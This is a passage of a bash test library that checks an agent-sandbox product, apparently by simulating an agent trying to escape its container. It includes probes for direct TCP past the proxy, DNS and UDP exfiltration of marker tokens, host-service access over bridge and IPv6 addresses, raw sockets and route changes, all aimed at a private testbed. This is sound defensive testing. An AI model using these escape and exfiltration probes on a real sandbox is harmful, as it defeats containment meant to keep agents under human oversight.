# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# The bypass matrix (issue 7 item 1), run once per mode by test-bypass-system.sh and test-bypass-user.sh:
# an agent that actively tries to get out of its sandbox. Every case is attempted from inside a real agent
# container (podman exec, as the agent's user, no extra capability) and must fail; every case also has a
# control showing that the same probe works where it is allowed (through the proxy, from the machine, or
# against an allowed address), so a case cannot pass because its probe is broken.
#
# The world the cases run in, all inside the testbed machine (never a real outside address):
#   * the gateway (socket-activated, lib/gateway-cases.sh helpers) with a provider holding a random secret;
#   * sandbox bypass-a (Debian image, created through the API with that provider and the policy below)
#     and bypass-b (busybox), the "other sandbox";
#   * bypass-upstream: a container in the test internet's netns osinet (198.18.0.10) running
#     lib/bypass-upstream.py, which records every byte that reaches it on TCP 8080/8081 (HTTP), 8443
#     (HTTPS, certificate from a throw-away test CA), 22 (an SSH banner) and UDP 9999, and sniffs every
#     frame for "bpmark-..." tokens (TCP, UDP, ICMP, DNS query names). Attacks carry fresh tokens; "not
#     seen" there is the ground truth that nothing got out.
#   * the test CA is given to bypass-a's proxy only, by a Quadlet drop-in that mounts a roots file holding
#     the machine's roots plus the test CA over the proxy's /etc/ssl/certs/ca-certificates.crt (standing in
#     for a public CA; the sidecar image itself is not touched).
#   * system mode: a host service on [::]:18099 (the IPv6 side of a dual-stack host daemon).
#
# Each case ends as one matrix row (case, attack, expected, result) and one TAP line; bp_report prints
# both. OPENSHELL_BYPASS_TAP=FILE also writes the TAP lines there (tools/security-report reads them).
# Needs e2e.sh, sandbox-cases.sh and gateway-cases.sh sourced and e2e_init called.

BP_A=bypass-a
BP_B=bypass-b
BP_PROV=bypass-prov
BP_RUN=/run/bypass
BP_OUT=$BP_RUN/out
BP_UPSTREAM=bypass-upstream
BP_SERVER=$TB_INET_SERVER
BP_HOST=$TB_INET_NAME
BP_V6PORT=18099
BP_RAND=$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')
BP_SECRET=bpsecret-$BP_RAND
BP_PLACEHOLDER=openshell:resolve:env:BYPASS_TOKEN
BP_ROWS=()
BP_N=0

# ---- the case framework ----------------------------------------------------------------------------

# A fresh marker for one probe: whatever carries it and reaches the test internet is seen by the sniffer.
bp_token() { echo "bpmark-$1-$BP_RAND"; }

# bp_begin ID ATTACK EXPECTED: start a case. bp_control / bp_blocked / bp_holds add its checks; bp_end
# turns them into one result: "blocked" when every control worked and every attack failed as expected,
# "ESCAPED: ..." when an attack got through, "NO CONTROL: ..." when a control failed (inconclusive).
bp_begin() {
        BP_ID=$1 BP_ATTACK=$2 BP_EXPECTED=$3 BP_RESULT=blocked BP_DETAIL= BP_HOW=
        e2e_info "---- $BP_ID: $BP_ATTACK"
}
bp_note() { [ "$BP_RESULT" != blocked ] || { BP_RESULT=$1; BP_DETAIL=$2; }; }
bp_short() { printf '%s' "$*" | tr -s '\n\t ' '   ' | cut -c1-${BP_CUT:-150}; }

# bp_control WHAT CMD...: CMD must succeed (the probe works where it is allowed).
bp_control() {
        local what=$1 out
        shift
        if out=$("$@" 2>&1); then
                e2e_info "  control ok: $what"
        else
                e2e_info "  control FAILED: $what: $(bp_short "$out")"
                bp_note "NO CONTROL" "$what: $(bp_short "$out")"
        fi
}

# bp_blocked WHAT CMD...: CMD is the attack and must fail.
bp_blocked() {
        local what=$1 out
        shift
        if out=$("$@" 2>&1); then
                e2e_info "  ESCAPED: $what: $(bp_short "$out")"
                bp_note ESCAPED "$what: $(bp_short "$out")"
        else
                e2e_info "  blocked: $what ($(BP_CUT=100 bp_short "$out"))"
                [ -n "$BP_HOW" ] || BP_HOW=$(BP_CUT=60 bp_short "$out")
        fi
}

# bp_refused WHAT PATTERN CMD...: the attack's answer must match the grep -E PATTERN (e.g. the proxy's
# 403), whatever CMD's exit status: a different answer (a 200, or a 502 after the proxy tried) fails.
bp_refused() {
        local what=$1 pat=$2 out
        shift 2
        out=$("$@" 2>&1)
        if grep -qE -- "$pat" <<<"$out"; then
                e2e_info "  refused: $what ($(BP_CUT=100 bp_short "$out"))"
                [ -n "$BP_HOW" ] || BP_HOW=$(grep -oE -- "$pat" <<<"$out" | head -n1 | sed 's/\\r.*//' | cut -c1-60)
        else
                e2e_info "  ESCAPED: $what: expected /$pat/, got: $(bp_short "$out")"
                bp_note ESCAPED "$what: expected /$pat/, got: $(bp_short "$out")"
        fi
}

# bp_holds WHAT CMD...: a property of the outcome that must hold (e.g. a token was never seen).
bp_holds() {
        local what=$1 out
        shift
        if out=$("$@" 2>&1); then
                e2e_info "  holds: $what"
        else
                e2e_info "  ESCAPED: $what does not hold: $(bp_short "$out")"
                bp_note ESCAPED "$what: $(bp_short "$out")"
        fi
}

bp_end() {
        local how=${BP_HOW:+ ($BP_HOW)}
        BP_N=$((BP_N + 1))
        if [ "$BP_RESULT" = blocked ]; then
                BP_ROWS+=("ok|$BP_ID|$BP_ATTACK|$BP_EXPECTED|blocked$how")
                e2e_pass "$BP_ID $BP_ATTACK: blocked$how"
        else
                BP_ROWS+=("not ok|$BP_ID|$BP_ATTACK|$BP_EXPECTED|$BP_RESULT: $BP_DETAIL")
                e2e_fail "$BP_ID $BP_ATTACK: $BP_RESULT: $BP_DETAIL"
        fi
}

# A case that does not apply in this mode still gets its row (TAP: skip).
bp_skip() {
        BP_N=$((BP_N + 1))
        BP_ROWS+=("skip|$1|$2|$3|n/a: $4")
        e2e_info "---- $1: $2: not applicable ($4)"
}

# The matrix, then the same rows as TAP (also into $OPENSHELL_BYPASS_TAP when set). TAP descriptions
# are "ID | attack | expected | result", the fields tools/security-report puts into its table.
bp_report() {
        local row st id atk exp res i=0 tap
        echo "#"
        echo "# bypass matrix ($E2E_MODE): case | attack | expected | result"
        for row in "${BP_ROWS[@]}"; do
                IFS='|' read -r st id atk exp res <<<"$row"
                printf '# %-4s | %-70s | %-40s | %s\n' "$id" "$atk" "$exp" "$res"
        done
        tap="TAP version 13"$'\n'"1..${#BP_ROWS[@]}"
        for row in "${BP_ROWS[@]}"; do
                i=$((i + 1))
                IFS='|' read -r st id atk exp res <<<"$row"
                case $st in
                skip) tap+=$'\n'"ok $i - $id | $atk | $exp | $res # SKIP ${res#n/a: }" ;;
                *) tap+=$'\n'"$st $i - $id | $atk | $exp | $res" ;;
                esac
        done
        echo "#"
        printf '%s\n' "$tap"
        [ -z "${OPENSHELL_BYPASS_TAP:-}" ] || printf '%s\n' "$tap" >"$OPENSHELL_BYPASS_TAP"
}

# ---- probes ----------------------------------------------------------------------------------------

bp_agent() { echo "openshell-agent-$BP_A"; }
# CMD in the agent, as the agent's user, no extra capability.
bp_in() { e2e_cexec "$(bp_agent)" "$@"; }
# lib/bypass-attack.py VERB ARGS in the agent (the script comes on stdin: nothing is installed there).
bp_py() { e2e_cexec_in "$(bp_agent)" python3 - "$@" <"$E2E_LIB/bypass-attack.py"; }
# The same with every capability (podman exec --privileged): a control that the probe itself works.
bp_py_priv() {
        if [ "$E2E_MODE" = user ]; then
                tb_exec_in runuser -u "$TB_USER" -- env XDG_RUNTIME_DIR="/run/user/$TB_UID" \
                        podman exec -i --privileged "$(bp_agent)" python3 - "$@" <"$E2E_LIB/bypass-attack.py"
        else
                tb_exec_in podman exec -i --privileged "$(bp_agent)" python3 - "$@" <"$E2E_LIB/bypass-attack.py"
        fi
}
bp_priv() { e2e_podman exec --privileged "$(bp_agent)" "$@"; }

# bp_send PAYLOAD [OPTS]: PAYLOAD (printf %b escapes) to the agent's proxy, raw, from inside the agent;
# prints what came back (a Python bytes literal). OPTS: --connect HOST:PORT, --tls SNI, --wait SEC.
bp_send() {
        local payload=$1
        shift
        bp_py send "$BP_PX" 3128 "$(printf '%b' "$payload" | base64 -w0)" "$@"
}
# A curl through the proxy (the agent's environment) printing "CODE BODY".
bp_curl() { e2e_agent_curl "$BP_A" "$@"; }

bp_seen() { tb_exec grep -rqF -- "$1" "$BP_OUT"; }
bp_wait_seen() { gw_wait "${2:-8}" bp_seen "$1"; }
# Nothing carrying TOKEN reached the test internet (sniffer, servers). Give in-flight frames a moment.
bp_not_seen() {
        sleep 0.5
        if bp_seen "$1"; then
                tb_exec sh -c "grep -rF -- '$1' $BP_OUT | head -n 3"
                return 1
        fi
}
# No request line the witness framed carries TOKEN (bytes of a body may, harmlessly).
bp_no_request() {
        sleep 0.5
        ! tb_exec grep -F -- "$1" "$BP_OUT/requests.log" || return 1
        tb_exec test -s "$BP_OUT/requests.log"
}
# The raw bytes an upstream connection that carried TOKEN received.
bp_upstream_conn() { tb_exec sh -c "grep -lF -- '$1' $BP_OUT/http-*.raw 2>/dev/null | head -n1 | xargs -r cat"; }

bp_machine_curl() { tb_exec curl -sS -m 5 -o /dev/null -w '%{http_code}\n' "$@"; }
bp_machine_listens() { tb_exec ss -Hltn "sport = :${1##*:}" | awk '{ print $4 }' | grep -qx -- "$1"; }
bp_machine_tcp() { tb_exec timeout 5 bash -c "exec 3<>/dev/tcp/$1/$2"; }
bp_machine_unix_listens() { tb_exec ss -Hlx | awk '{ print $5 }' | grep -qxF -- "$1"; }

# ---- setup -----------------------------------------------------------------------------------------

bp_quadlet_dir() { if [ "$E2E_MODE" = user ]; then echo "/run/user/$TB_UID/openshell/quadlet"; else echo /run/openshell/quadlet; fi; }
bp_dropin() { echo "$(bp_quadlet_dir)/openshell-proxy-$BP_A.container.d/50-bypass-test-ca.conf"; }

# The test CA, the upstream's certificate and the proxy's roots file, in $BP_RUN inside the machine.
bp_setup_pki() {
        tb_exec_in sh -es "$BP_RUN" "$BP_HOST" "$BP_SERVER" <<-'EOF'
	d=$1; mkdir -p "$d/out"; cd "$d"
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout ca.key -out ca.crt \
	    -subj /CN=openshell-bypass-test-ca -days 2 -addext basicConstraints=critical,CA:TRUE \
	    -addext keyUsage=critical,keyCertSign,cRLSign 2>/dev/null
	openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout srv.key -out srv.csr \
	    -subj "/CN=$2" 2>/dev/null
	printf 'subjectAltName=DNS:%s,DNS:denied.openshell.test,IP:%s\nextendedKeyUsage=serverAuth\nbasicConstraints=CA:FALSE\n' \
	    "$2" "$3" >srv.ext
	openssl x509 -req -in srv.csr -CA ca.crt -CAkey ca.key -CAcreateserial -days 2 -out srv.crt \
	    -extfile srv.ext 2>/dev/null
	cat /etc/ssl/certs/ca-certificates.crt ca.crt >proxy-roots.crt
	chmod 0755 "$d" "$d/out"; chmod 0644 ca.crt srv.crt proxy-roots.crt
	EOF
}

# A transient unit of the machine runs the witness's container in the foreground (a detached `podman run`
# would keep tb_exec's transient unit waiting for conmon).
bp_setup_upstream() {
        bp_upstream_down
        tb_exec systemd-run --quiet --unit="$BP_UPSTREAM" -p KillMode=mixed \
                podman run --rm --name "$BP_UPSTREAM" --network ns:/run/netns/osinet --cap-add NET_RAW \
                -v "$BP_RUN:$BP_RUN" -v "$TB_SRC_IN/e2e/lib:/srv/bypass:ro" localhost/openshell-test-debian:latest \
                python3 /srv/bypass/bypass-upstream.py "$BP_OUT" "$BP_RUN/srv.crt" "$BP_RUN/srv.key" &&
                gw_wait 30 tb_exec test -e "$BP_OUT/ready"
}

# The container first (its `podman run` then ends by itself), then the unit: stopping the unit first
# kills conmon and leaves an exited container behind.
bp_upstream_down() {
        tb_exec podman rm -f -t 0 "$BP_UPSTREAM" >/dev/null 2>&1
        tb_exec systemctl stop "$BP_UPSTREAM.service" >/dev/null 2>&1
        tb_exec systemctl reset-failed "$BP_UPSTREAM.service" >/dev/null 2>&1
        tb_exec podman rm -f -t 0 "$BP_UPSTREAM" >/dev/null 2>&1
}

# Only bypass-a's proxy trusts the test CA; the drop-in sits next to the generator's Quadlet files.
bp_setup_dropin() {
        printf '[Container]\nMount=type=bind,source=%s/proxy-roots.crt,destination=/etc/ssl/certs/ca-certificates.crt,ro=true\n' \
                "$BP_RUN" | e2e_put "$(bp_dropin)"
}

bp_policy() {
        cat <<-EOF
	{"version": 1, "network_policies": {
	  "plain": {"name": "L4: the busybox server and the witness's HTTP port, tunnelled uninspected",
	            "endpoints": [{"host": "$BP_HOST", "ports": [80, 8081]},
	                          {"host": "*.$BP_HOST", "port": 80}]},
	  "rest": {"name": "L7: the witness over HTTP and HTTPS (inspected), /forbidden denied",
	           "endpoints": [{"host": "$BP_HOST", "ports": [8080, 8443], "protocol": "rest",
	                          "rules": [{"allow": {"method": ["GET", "POST", "HEAD"], "path": "/**"}}],
	                          "deny_rules": [{"deny": {"path": "/forbidden/**"}}]}]}}}
	EOF
}

bp_create_body() {
        local n=$1 image=$2
        cat <<-EOF
	{"spec": {"name": "$n", "image": "$image",
	          "command": ["sh", "-c", "trap 'exit 0' TERM; sleep 1000000 & wait"],
	          "env": {"BYPASS_TOKEN": "$BP_PLACEHOLDER"}},
	 "providers": ["$BP_PROV"], "policy": $(bp_policy), "start": true}
	EOF
}

# A gateway that already answers (another suite's, or an administrator's) is used as it is and left
# running; otherwise this suite configures one like lib/gateway-cases.sh and stops it again at the end.
# Decided in the suite's own shell (bp_step runs its command in a subshell): BP_GW_OWNED, GW_API.
bp_gateway_decide() {
        if [ "$(e2e_systemctl is-active openshell-gateway.socket)" = active ] &&
           [ "$(gw_status "$(gw_api GET /v1/health 2>/dev/null)")" = 200 ]; then
                BP_GW_OWNED=no
                e2e_info "using the gateway that is already running on $GW_API"
                return
        fi
        BP_GW_OWNED=yes
        # A user gateway on a port of its own: a system gateway may hold 127.0.0.1:17670 in the same machine.
        [ "$E2E_MODE" != user ] || GW_API=127.0.0.1:17680
}

bp_setup_gateway() {
        local d conf out
        if [ "$BP_GW_OWNED" = yes ]; then
                d=$(gw_tls_dir)
                e2e_as openshell-gateway generate-certs --output-dir "$d" >/dev/null || return
                conf=$(gw_conf 300)
                e2e_put "$(gw_conf_dropin)" <<<"$conf"
                e2e_systemctl daemon-reload &&
                        e2e_systemctl restart openshell-gateway.socket openshell-gateway-callback.socket || return
        fi
        out=$(gw_api GET /v1/health)
        [ "$(gw_status "$out")" = 200 ] || { echo "gateway health: $out"; return 1; }
}

bp_create() {
        local out n
        # What an interrupted earlier run may have left in the gateway's state.
        for n in "$BP_A" "$BP_B"; do
                gw_api DELETE "/v1/sandboxes/$n" >/dev/null 2>&1
        done
        gw_api DELETE "/v1/providers/$BP_PROV" >/dev/null 2>&1
        gw_wait 60 gw_nothing_left "$BP_A" && gw_wait 60 gw_nothing_left "$BP_B" ||
                { echo "leftovers of an earlier run: $(gw_leftovers "$BP_A") $(gw_leftovers "$BP_B")"; return 1; }
        bp_setup_dropin
        out=$(gw_api POST /v1/providers "{\"name\":\"$BP_PROV\",\"type\":\"generic\",\"credentials\":{\"BYPASS_TOKEN\":\"$BP_SECRET\"}}")
        [ "$(gw_status "$out")" = 201 ] || { echo "POST /v1/providers: $out"; return 1; }
        out=$(gw_api POST /v1/sandboxes "$(bp_create_body "$BP_A" localhost/openshell-test-debian:latest)")
        [ "$(gw_status "$out")" = 201 ] || { echo "POST /v1/sandboxes $BP_A: $out"; return 1; }
        out=$(gw_api POST /v1/sandboxes "$(bp_create_body "$BP_B" localhost/openshell-test-busybox:latest)")
        [ "$(gw_status "$out")" = 201 ] || { echo "POST /v1/sandboxes $BP_B: $out"; return 1; }
        gw_wait 120 gw_unit_is "openshell-sandbox@$BP_A.service" active || { echo "$BP_A not active"; return 1; }
        gw_wait 60 gw_unit_is "openshell-sandbox@$BP_B.service" active || { echo "$BP_B not active"; return 1; }
        gw_wait 30 gw_proxy_journal_has "$BP_A" 'Credentials from the gateway applied' ||
                { echo "the proxy of $BP_A did not get its credentials"; return 1; }
}

bp_net_ip() { e2e_podman inspect --format "{{(index .NetworkSettings.Networks \"$2\").IPAddress}}" "$1"; }

# Addresses the cases aim at.
bp_addresses() {
        BP_PX=$(gw_proxy_ip "$BP_A")
        BP_GW=$(e2e_net_field "$BP_A" Gateway)
        BP_PXE=$(bp_net_ip "openshell-proxy-$BP_A" openshell)
        BP_BPX=$(gw_proxy_ip "$BP_B")
        BP_BAG=$(bp_net_ip "openshell-agent-$BP_B" "openshell-sbx-$BP_B")
        BP_BPXE=$(bp_net_ip "openshell-proxy-$BP_B" openshell)
        BP_EGW=$(e2e_podman network inspect --format '{{range .Subnets}}{{.Gateway}}{{end}}' openshell)
        BP_HOSTIP=$(gw_host_ip)
        e2e_info "agent $BP_A: proxy $BP_PX (egress $BP_PXE), bridge gateway $BP_GW; $BP_B: proxy $BP_BPX (egress $BP_BPXE), agent $BP_BAG; egress gateway $BP_EGW; machine $BP_HOSTIP"
}

# The IPv6 link-local address of bypass-a's bridge (system mode: the machine's interface holding BP_GW).
bp_bridge6() {
        local ifc
        ifc=$(tb_exec ip -o -4 addr show | awk -v a="$BP_GW" '{ split($4, p, "/"); if (p[1] == a) print $2 }')
        [ -n "$ifc" ] || return 1
        tb_exec ip -o -6 addr show dev "$ifc" scope link | awk '{ split($4, p, "/"); print p[1]; exit }'
        echo "$ifc"
}

# bp_step NAME CMD...: a setup step; PASS/FAIL like e2e_check, and its status for the caller.
bp_step() {
        local name=$1 out
        shift
        if out=$("$@" 2>&1); then
                e2e_pass "setup: $name"
        else
                e2e_fail "setup: $name"
                printf '%s\n' "$out" | tail -n 15 | sed 's/^/#     /'
                return 1
        fi
}

bp_setup() {
        bp_step "test CA and the witness's certificate (openssl in the machine)" bp_setup_pki || return
        bp_step "the witness runs in the test internet (netns osinet, $BP_SERVER)" bp_setup_upstream || return
        bp_gateway_decide
        bp_step "the gateway answers on $GW_API" bp_setup_gateway || return
        if [ "$E2E_MODE" = system ]; then
                tb_exec systemd-run --quiet --unit=bypass-v6host busybox httpd -f -p "[::]:$BP_V6PORT" \
                        -h /srv/hostsrv/www
        fi
        bp_step "provider $BP_PROV and sandboxes $BP_A, $BP_B created through the API and active" bp_create || return
        bp_addresses
}

# Everything of this suite's own (sandboxes, provider, witness, drop-in, test CA); never the gateway.
bp_cleanup() {
        local n
        for n in "$BP_A" "$BP_B"; do
                gw_api DELETE "/v1/sandboxes/$n" >/dev/null 2>&1
        done
        gw_api DELETE "/v1/providers/$BP_PROV" >/dev/null 2>&1
        e2e_sandbox_cleanup "$BP_A" "$BP_B"
        tb_exec rm -rf "$(gw_state_dir)/sandboxes/$BP_A" "$(gw_state_dir)/sandboxes/$BP_B"
        tb_exec rm -rf "$(dirname "$(bp_dropin)")"
        bp_upstream_down
        tb_exec systemctl stop bypass-v6host.service >/dev/null 2>&1
        tb_exec systemctl reset-failed bypass-v6host.service >/dev/null 2>&1
        tb_exec rm -rf "$BP_RUN"
}

# The gateway, when this suite started it (gw_cleanup with a name nothing uses).
bp_gateway_down() { [ "${BP_GW_OWNED:-no}" = no ] || gw_cleanup "$BP_A" >/dev/null 2>&1; }

# ---- network: there is no way out but the proxy ----------------------------------------------------

bp_case_direct() {
        local tok
        tok=$(bp_token direct)
        bp_begin N01 "direct TCP to the test server $BP_SERVER (proxy variables ignored)" "no route: connect fails, nothing arrives"
        bp_control "the machine reaches http://$BP_SERVER:8080/" bp_machine_curl "http://$BP_SERVER:8080/"
        bp_control "the same probe (python connect) from the agent reaches its proxy $BP_PX:3128" bp_py tcp "$BP_PX" 3128
        bp_control "through the proxy, http://$BP_HOST:8080/ answers" bp_upstream_answers "http://$BP_HOST:8080/n01"
        bp_blocked "curl --noproxy '*' http://$BP_SERVER:8080/" bp_in curl -sS -m 5 --noproxy '*' "http://$BP_SERVER:8080/"
        bp_blocked "python connect $BP_SERVER:8080, sending a token" bp_py tcp "$BP_SERVER" 8080 "$tok"
        bp_blocked "python connect $BP_SERVER:80" bp_py tcp "$BP_SERVER" 80
        bp_holds "the token never reached the test internet" bp_not_seen "$tok"
        bp_end

        bp_begin N02 "unset HTTP(S)_PROXY and talk to $BP_HOST by name" "the name does not resolve, no route"
        bp_control "with the proxy variables, http://$BP_HOST:8080/ answers" bp_upstream_answers "http://$BP_HOST:8080/n02"
        bp_blocked "env -u HTTP_PROXY ... curl http://$BP_HOST:8080/" bp_in env -u HTTP_PROXY -u http_proxy \
                -u HTTPS_PROXY -u https_proxy curl -sS -m 5 "http://$BP_HOST:8080/"
        bp_blocked "python connect $BP_HOST:8080 (resolver + connect)" bp_py tcp "$BP_HOST" 8080
        bp_end
}
bp_hostsrv_answers() { bp_in curl -sS -m 5 --noproxy '*' "http://$1:18080/" | grep -q hello-from-host-service; }
bp_upstream_answers() { local out; out=$(bp_curl "$1"); [[ "$out" == "200 bypass-upstream"* ]] || { echo "$out"; return 1; }; }

# Host services through the gateway IPs the agent can name: its bridge's (.1) and the egress bridge's.
bp_case_host() {
        bp_begin N03 "host service via the sandbox bridge's gateway $BP_GW:18080" "dropped (openshell-firewall)"
        if [ "$E2E_MODE" = system ]; then
                # The machine cannot be the control here: the firewall drops everything from 10.213.0.0/16,
                # the replies to its own connections to its bridge address included. The service listens on
                # every address, and the agent's probe reaches this address on the one port left open.
                bp_control "the host service listens on 0.0.0.0:18080" bp_machine_listens 0.0.0.0:18080
        else
                bp_control "the machine reaches its host service http://$BP_HOSTIP:18080/" bp_machine_curl "http://$BP_HOSTIP:18080/"
        fi
        bp_control "the same probe reaches $BP_GW:53 (DNS, allowed)" bp_py tcp "$BP_GW" 53
        # Rootless: .1 is the rootless network namespace (aardvark-dns only; pasta runs with -T none), so a
        # refused connection there is expected; the host's service must not answer.
        [ "$E2E_MODE" = user ] || bp_blocked "python connect $BP_GW:18080" bp_py tcp "$BP_GW" 18080
        bp_blocked "curl --noproxy '*' http://$BP_GW:18080/ answers with the host service" bp_hostsrv_answers "$BP_GW"
        bp_blocked "curl http://host.containers.internal:18080/ (the name Podman gives the host)" \
                bp_hostsrv_answers host.containers.internal
        if [ "$E2E_MODE" = user ]; then
                bp_blocked "python connect $BP_HOSTIP:18080 (the machine's own address)" bp_py tcp "$BP_HOSTIP" 18080
                bp_blocked "python connect 169.254.1.2:18080 (pasta's host address)" bp_py tcp 169.254.1.2 18080
        fi
        bp_end

        bp_begin N04 "host via the egress bridge's gateway $BP_EGW (host service, gateway callback)" "no route"
        [ "$E2E_MODE" != system ] ||
                bp_control "the machine reaches http://$BP_EGW:18080/" bp_machine_curl "http://$BP_EGW:18080/"
        if gw_callback_is_unix; then
                # The callback is a Unix socket mounted into the proxy only: nothing on any network.
                bp_control "the callback socket $GW_CALLBACK listens" bp_machine_unix_listens "$GW_CALLBACK"
        else
                bp_control "the machine reaches the callback listener $GW_CALLBACK" bp_machine_tcp "${GW_CALLBACK%:*}" "${GW_CALLBACK##*:}"
        fi
        bp_control "the same probe reaches the proxy $BP_PX:3128" bp_py tcp "$BP_PX" 3128
        bp_blocked "python connect $BP_EGW:18080" bp_py tcp "$BP_EGW" 18080
        if gw_callback_is_unix; then
                bp_blocked "python connect to the callback socket $GW_CALLBACK" bp_py unix "$GW_CALLBACK"
                bp_blocked "python connect to the proxy's view of it, /run/openshell/gateway/gateway.sock" \
                        bp_py unix /run/openshell/gateway/gateway.sock
        else
                bp_blocked "python connect to the callback listener $GW_CALLBACK" bp_py tcp "${GW_CALLBACK%:*}" "${GW_CALLBACK##*:}"
        fi
        bp_end
}

# IPv6: the sandbox network is IPv4, but Linux gives every interface a link-local IPv6 address, and the
# host's side of the bridge has one too. A dual-stack host daemon ([::]:PORT) answers there.
bp_case_ipv6() {
        local b ifc addr
        if [ "$E2E_MODE" != system ]; then
                bp_skip N05 "IPv6 link-local to a host service on [::]:$BP_V6PORT" "unreachable" \
                        "rootless: the bridge lives in the rootless network namespace, no host daemon listens there"
                return
        fi
        b=$(bp_bridge6)
        addr=$(head -n1 <<<"$b")
        ifc=$(tail -n1 <<<"$b")
        bp_begin N05 "IPv6 link-local to a host service on [::]:$BP_V6PORT via the bridge's fe80:: address" "no IPv6 in the agent"
        bp_control "the machine reaches http://[$addr%$ifc]:$BP_V6PORT/" bp_machine_curl -g "http://[$addr%$ifc]:$BP_V6PORT/"
        bp_control "the same probe reaches $BP_PX:3128 over IPv4" bp_py tcp "$BP_PX" 3128
        bp_blocked "python connect [$addr%eth0]:$BP_V6PORT" bp_py tcp "$addr%eth0" "$BP_V6PORT"
        bp_blocked "curl -g http://[$addr%eth0]:$BP_V6PORT/" bp_in curl -sS -m 5 --noproxy '*' -g "http://[$addr%25eth0]:$BP_V6PORT/"
        bp_blocked "python connect [ff02::1%eth0]:$BP_V6PORT (all-nodes multicast)" bp_py tcp "ff02::1%eth0" "$BP_V6PORT"
        bp_end
}

bp_case_udp_dns() {
        local tu tc ta tb tt tp tq
        tu=$(bp_token udp) tc=$(bp_token udpctl)
        bp_begin N06 "UDP datagram with a token to $BP_SERVER:9999" "no route: nothing arrives"
        bp_control "a datagram from the machine arrives" bp_machine_udp "$tc"
        bp_blocked "python sendto $BP_SERVER:9999" bp_py udp "$BP_SERVER" 9999 "$tu"
        bp_holds "the token never reached the test internet" bp_not_seen "$tu"
        bp_end

        tc=$(bp_token dnsctl) ta=$(bp_token dnsbridge) tb=$(bp_token dnsdirect) tt=$(bp_token dnstcp)
        bp_begin N07 "DNS exfiltration: queries for <token>.$BP_HOST (bridge DNS, the test DNS server, TCP)" "no answer, no query arrives"
        bp_control "the machine's query for $tc.$BP_HOST reaches the test DNS" bp_machine_dns "$tc"
        bp_control "the same probe resolves a container name through the bridge's DNS" bp_py dns "$BP_GW" "openshell-proxy-$BP_A"
        bp_blocked "query $ta.$BP_HOST at the bridge's DNS $BP_GW" bp_py dns "$BP_GW" "$ta.$BP_HOST"
        bp_blocked "query at $BP_SERVER:53 (UDP)" bp_py dns "$BP_SERVER" "$tb.$BP_HOST"
        bp_blocked "query at $BP_SERVER:53 (TCP)" bp_py dns "$BP_SERVER" "$tt.$BP_HOST" tcp
        bp_blocked "getent hosts $BP_HOST (the agent's resolver)" bp_in getent hosts "$BP_HOST"
        bp_holds "no query name reached the test internet" bp_not_seen_all "$ta" "$tb" "$tt"
        bp_end

        tc=$(bp_token proxydnsctl) tp=$(bp_token proxydns) tq=$(bp_token proxydnsabs)
        bp_begin N08 "DNS exfiltration through the proxy's resolver: CONNECT/GET to <token>.denied.openshell.test" "403 before any DNS lookup"
        bp_control "CONNECT $tc.$BP_HOST:80 (allowed by *.$BP_HOST) makes the proxy look it up" \
                bp_connect_seen "$tc.$BP_HOST:80" "$tc"
        bp_refused "CONNECT $tp.denied.openshell.test:443" 'HTTP/1.1 403' bp_send '' --connect "$tp.denied.openshell.test:443"
        bp_refused "GET http://$tq.denied.openshell.test/" 'HTTP/1.1 403' \
                bp_send "GET http://$tq.denied.openshell.test/ HTTP/1.1\r\nHost: $tq.denied.openshell.test\r\n\r\n"
        bp_holds "neither name reached the test DNS" bp_not_seen_all "$tp" "$tq"
        bp_end
}
bp_machine_udp() { tb_exec bash -c "echo '$1' >/dev/udp/$BP_SERVER/9999" && bp_wait_seen "$1"; }
bp_machine_dns() { tb_exec busybox nslookup "$1.$BP_HOST" "$BP_SERVER" >/dev/null 2>&1; bp_wait_seen "$1"; }
bp_connect_seen() { bp_send '' --connect "$1" --wait 1 >/dev/null; bp_wait_seen "$2"; }
bp_not_seen_all() { local t; for t in "$@"; do bp_not_seen "$t" || return; done; }

# Another sandbox and the containers on the egress bridge.
bp_case_neighbours() {
        bp_begin N09 "another sandbox ($BP_B): its proxy $BP_BPX:3128 and its agent $BP_BAG" "no route (separate internal networks)"
        bp_control "$BP_B's agent reaches its own proxy $BP_BPX:3128" e2e_cexec "openshell-agent-$BP_B" sh -c "echo | nc -w 3 $BP_BPX 3128"
        bp_control "the same probe from $BP_A reaches its own proxy $BP_PX:3128" bp_py tcp "$BP_PX" 3128
        bp_blocked "python connect $BP_BPX:3128" bp_py tcp "$BP_BPX" 3128
        bp_blocked "python connect $BP_BAG:22" bp_py tcp "$BP_BAG" 22
        bp_blocked "ICMP echo to $BP_BAG" bp_py icmp "$BP_BAG" probe
        bp_end

        bp_begin N10 "the egress bridge: its own proxy's $BP_PXE:3128, $BP_B's proxy $BP_BPXE:3128" "no route"
        if [ "$E2E_MODE" = system ]; then
                bp_control "the machine reaches $BP_BPXE:3128" bp_machine_tcp "$BP_BPXE" 3128
        else
                bp_control "the rootless network namespace reaches $BP_BPXE:3128" \
                        e2e_as podman unshare --rootless-netns timeout 5 bash -c "exec 3<>/dev/tcp/$BP_BPXE/3128"
        fi
        bp_control "the same probe reaches $BP_PX:3128" bp_py tcp "$BP_PX" 3128
        bp_blocked "python connect $BP_PXE:3128" bp_py tcp "$BP_PXE" 3128
        bp_blocked "python connect $BP_BPXE:3128" bp_py tcp "$BP_BPXE" 3128
        bp_blocked "python connect $BP_PXE:8081 (the forward, on the egress side)" bp_py tcp "$BP_PXE" 8081
        bp_end
}

# Raw sockets, and changing the agent's own network configuration.
bp_case_raw_routes() {
        local tok saved
        tok=$(bp_token icmp)
        bp_begin N11 "raw sockets (AF_PACKET, SOCK_RAW) and ICMP with a token to $BP_SERVER" "EPERM; ICMP has no route"
        bp_control "with every capability (podman exec --privileged) the same probe opens them" bp_py_priv raw
        bp_blocked "python socket(AF_PACKET) / socket(AF_INET, SOCK_RAW)" bp_py raw
        bp_blocked "ICMP echo to $BP_SERVER carrying a token" bp_py icmp "$BP_SERVER" "$tok"
        bp_holds "the token never reached the test internet" bp_not_seen "$tok"
        bp_end

        tok=$(bp_token routed)
        bp_begin N12 "change routes or DNS in the container: default route via the proxy, resolv.conf -> $BP_SERVER" "EPERM; no route, no resolution"
        bp_control "with CAP_NET_ADMIN (podman exec --privileged) the route can be added" \
                bp_priv ip route add default via "$BP_PX"
        bp_blocked "even then, python connect $BP_SERVER:8080 through the proxy container (it does not forward)" \
                bp_py tcp "$BP_SERVER" 8080 "$tok"
